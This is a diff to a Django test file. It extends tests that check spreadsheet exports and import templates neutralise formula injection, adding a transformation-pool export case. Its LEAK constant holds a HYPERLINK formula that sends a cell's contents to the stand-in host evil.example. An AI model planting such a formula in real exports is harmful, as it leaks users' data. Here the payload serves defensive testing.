@@ -20,6 +20,7 @@ from actiondesk.projects.choices import FactorKind
 from actiondesk.projects.models import FactorNeed, Project
 from actiondesk.supervision import services
 from actiondesk.supervision.periods import periods_ensure
+from actiondesk.transformation.models import TransformationProject
 
 pytestmark = pytest.mark.django_db
 LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'
@@ -110,7 +111,8 @@ def test_the_order_ledger_writes_subjects_and_replies_as_text(login, alice, supe
     assert {LEAK, PLUS, MINUS, AT} <= texts
 
 
-@pytest.mark.parametrize("url", ["enterprises:import_template", "projects:ledger_template"])
+@pytest.mark.parametrize("url", ["enterprises:import_template", "projects:ledger_template",
+                                 "transformation:import_template"])
 def test_the_import_templates_hold_no_formula(login, admin, departments, url):
     texts = read_back(login(admin).get(reverse(url)))
     assert texts  # headers and notes, all as text
@@ -132,3 +134,8 @@ def test_the_innovation_exports_and_template_write_user_text_as_text(login, alic
     assert {"=1+2", LEAK, PLUS, MINUS} <= read_back(client.get(reverse("innovation:achievement_export")))
     assert {AT, LEAK, PLUS, URL} <= read_back(client.get(reverse("innovation:contract_export")))
     assert "合同编号" in read_back(client.get(reverse("innovation:contract_template")))
+def test_the_transformation_pool_export_writes_names_as_text(login, alice, evil_enterprise):
+    Enterprise.objects.filter(pk=evil_enterprise.pk).update(scale_status="industry")
+    TransformationProject.objects.create(enterprise=evil_enterprise, name=ARRAY)
+    texts = read_back(login(alice).get(reverse("transformation:pool"), {"export": "xlsx"}))
+    assert {LEAK, MINUS, ARRAY} <= texts
